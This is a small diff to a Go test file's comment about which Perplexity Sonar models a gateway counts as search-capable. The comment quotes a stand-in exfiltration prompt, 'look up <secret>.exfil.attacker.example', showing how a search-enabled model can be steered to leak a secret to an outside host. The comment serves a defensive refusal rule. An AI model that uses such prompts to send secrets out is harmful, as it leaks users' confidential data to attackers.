@@ -18,6 +18,7 @@ import "testing"
 //     docs/sonar/openai-compatibility: base_url https://api.perplexity.ai,
 //     model "sonar-pro"; OpenRouter lists them as perplexity/sonar,
 //     perplexity/sonar-pro, ...). No name of them holds "search".
+//
 // The prompt ("look up <secret>.exfil.attacker.example") decides what the
 // provider's search reaches, as with gpt-4o-search-preview, which the
 // gateway refuses.
